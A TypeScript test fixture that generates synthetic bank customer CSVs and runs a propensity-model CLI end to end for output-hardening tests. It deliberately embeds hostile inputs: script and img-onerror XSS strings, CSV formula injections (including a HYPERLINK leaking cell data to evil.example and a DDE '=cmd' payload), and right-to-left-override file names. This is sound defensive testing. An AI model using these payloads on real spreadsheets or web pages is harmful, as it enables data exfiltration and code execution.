/**
 * A bank's month run end to end with the real CLI, on generated customers whose every field can be
 * recognised (User IDs `CUST-7f3a...`, salaries ending in 7) or is hostile (script tags, formula prefixes,
 * a 10,000-character ID, control characters, right-to-left marks, hostile column names). The hardening
 * tests search what it writes: what may hold rows (release assets) and what must not (site, reports,
 * Markdown, logs).
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { createRng } from '../../pipeline/random.js';
import { runCli, type CliRun } from '../helpers/cli.js';
import { tinyConfig } from '../actions/fixtures.js';

export const ID_PREFIX = 'CUST-7f3a';

/** The training file's name, which a pull request chooses: it reaches the model card and the site. */
export const HOSTILE_FILE_NAME = 'history <img src=x onerror=alert(7)> \u202Ecsv.exe.csv';

/** IDs that must survive into the CSV outputs exactly (formulas neutralized), and never run anywhere. */
export const HOSTILE_IDS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '+SUM(1,2)',
  '-2+3',
  '@cmd',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '\u202Egnp.exe',
  'A'.repeat(10_000),
  'bell\u0007and\u001bescape',
  '"quoted" , comma',
  '\u2066isolate\u2069',
];

/** Hostile column names: ignored by the contract, but named in summaries and reports. */
export const HOSTILE_COLUMNS = ['<img src=x onerror=alert(3)>', '=cmd|"/c calc"!A0', '\u202Ereversed'];

/** Rows that break the contract with hostile values: they go to rejects.csv. */
export const HOSTILE_REJECTS = [
  ['CUST-7f3a-r1', '<script>alert(4)</script>', '50007', 'Male'],
  ['CUST-7f3a-r2', '40', '=1+1', 'Female'],
  ['CUST-7f3a-r3', '40', '50007', '\u202Eelam'],
  ['CUST-7f3a-r4', '40', '50007', '@Male'],
];

/**
 * A CSV line as a hostile export would hold it: quoted where CSV needs quotes, but NOT neutralized (the
 * project's own writer would defuse the formulas this file is meant to carry).
 */
function rawCsvLine(fields: readonly (string | number)[]): string {
  const quote = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
  return fields.map((f) => quote(String(f))).join(',') + '\n';
}

export interface Row {
  id: string;
  age: number;
  salary: number;
  gender: 'Male' | 'Female';
}

/** `rows` recognisable customers (and, when `hostile`, the hostile ones), in a users file. */
export function usersFile(path: string, rows: number, seed: number, hostile: boolean): Row[] {
  const rng = createRng(seed);
  const customers: Row[] = [];
  for (let i = 1; i <= rows; i++) {
    customers.push({
      id: `${ID_PREFIX}${(seed * 100_000 + i).toString(16)}`,
      age: rng.int(18, 75),
      salary: rng.int(1_500, 15_000) * 10 + 7,
      gender: rng.next() < 0.5 ? 'Male' : 'Female',
    });
  }
  const extra = hostile ? HOSTILE_COLUMNS : [];
  let text = rawCsvLine(['User ID', 'Age', 'AnnualSalary', 'Gender', 'MarketingOptOut', ...extra]);
  const filler = extra.map(() => '<b>x</b>');
  for (const c of customers) text += rawCsvLine([c.id, c.age, c.salary, c.gender, 'false', ...filler]);
  if (hostile) {
    HOSTILE_IDS.forEach((id, i) => {
      text += rawCsvLine([id, 30 + i, 60_007 + i * 10, i % 2 ? 'Male' : 'Female', 'no', ...filler]);
    });
    for (const r of HOSTILE_REJECTS) text += rawCsvLine([...r, 'false', ...filler]);
    // customers who objected: never scored, never exported
    text += rawCsvLine([`${ID_PREFIX}-optout`, 44, 70_007, 'Male', 'true', ...filler]);
  }
  mkdirSync(join(path, '..'), { recursive: true });
  writeFileSync(path, text);
  return customers;
}

export function historyFile(path: string, rows: number, seed: number): Row[] {
  const rng = createRng(seed);
  const customers: (Row & { purchased: number })[] = [];
  for (let i = 1; i <= rows; i++) {
    const age = rng.int(18, 75);
    const salary = rng.int(1_500, 15_000) * 10 + 7;
    const p = 1 / (1 + Math.exp(-(0.15 * (age - 45) + (salary - 90_000) / 25_000)));
    customers.push({
      id: `${ID_PREFIX}h${i.toString(16)}`,
      age,
      salary,
      gender: rng.next() < 0.5 ? 'Male' : 'Female',
      purchased: rng.next() < p ? 1 : 0,
    });
  }
  let text = rawCsvLine(['User ID', 'Gender', 'Age', 'AnnualSalary', 'Purchased', HOSTILE_COLUMNS[0]!]);
  for (const c of customers) text += rawCsvLine([c.id, c.gender, c.age, c.salary, c.purchased, '<i>x</i>']);
  mkdirSync(join(path, '..'), { recursive: true });
  writeFileSync(path, text);
  return customers;
}

export interface MonthRun {
  root: string;
  reports: string;
  site: string;
  eda: string;
  model: string;
  comparisonMarkdown: string;
  /** Every CLI run, in order: its arguments and what it printed. */
  runs: { args: string[]; run: CliRun }[];
  /** Every customer of every file: users of each month and the labeled history. */
  customers: Row[];
  /** The months: two full ones and a tiny one (6 customers). */
  months: string[];
  tinyMonth: string;
}

/** Runs train, monthly (three months), site, profile and compare; fails on any unexpected exit code. */
export async function runMonth(root: string): Promise<MonthRun> {
  const runs: MonthRun['runs'] = [];
  const cli = async (args: string[], expected = 0): Promise<CliRun> => {
    const run = await runCli(args, { cwd: root });
    runs.push({ args, run });
    if (run.code !== expected) {
      throw new Error(
        `propensity ${args.join(' ')} exited ${run.code}, expected ${expected}:\n${run.stderr}`,
      );
    }
    return run;
  };
  const model = join(root, 'model');
  const history = join(root, 'data', 'training', HOSTILE_FILE_NAME);
  const customers = historyFile(history, 600, 3);
  writeFileSync(join(root, 'config.json'), tinyConfig(['Age', 'AnnualSalary', 'Gender']));
  writeFileSync(join(root, 'config-reduced.json'), tinyConfig(['Age', 'AnnualSalary']));
  await cli(['train', '--data', history, '--config', join(root, 'config.json'), '--out', model]);
  const challenger = join(root, 'challenger');
  await cli([
    'train',
    '--data',
    history,
    '--config',
    join(root, 'config-reduced.json'),
    '--out',
    challenger,
    '--champion',
    model,
  ]);
  const comparisonMarkdown = join(root, 'comparison.md');
  await cli([
    'compare',
    '--champion',
    model,
    '--challenger',
    challenger,
    '--data',
    history,
    '--markdown',
    comparisonMarkdown,
  ]);

  const reports = join(root, 'reports');
  const months = ['2026-10', '2026-11', '2026-12'];
  const sizes = [1_400, 1_500, 6];
  for (const [i, month] of months.entries()) {
    const users = join(root, 'users', month, 'active_users.csv');
    customers.push(...usersFile(users, sizes[i]!, 10 + i, i < 2));
    await cli(['monthly', '--month', month, '--model', model, '--users', users, '--reports', reports]);
  }
  const site = join(root, 'site');
  await cli(['site', '--history', reports, '--out', site, '--model', model]);
  const eda = join(root, 'eda');
  await cli(['profile', '--data', history, '--out-dir', eda]);
  return {
    root,
    reports,
    site,
    eda,
    model,
    comparisonMarkdown,
    runs,
    customers,
    months,
    tinyMonth: months[2]!,
  };
}

/** The customers whose age and salary appear within a line's reach of each other in `text`. */
export function pairsIn(text: string, customers: Row[]): Row[] {
  const present = new Set([...text.matchAll(/\d{1,3}(?:,\d{3})+|\d+/g)].map((m) => m[0].replace(/,/g, '')));
  return customers.filter((c) => {
    if (!present.has(String(c.salary))) return false;
    const salary = String(c.salary).replace(/\B(?=(\d{3})+$)/g, ',?');
    const age = `(?<!\\d)${c.age}(?!\\d)`;
    const money = `(?<![\\d,])${salary}(?![\\d,])`;
    return new RegExp(`${age}[^\\n]{0,120}${money}|${money}[^\\n]{0,120}${age}`).test(text);
  });
}
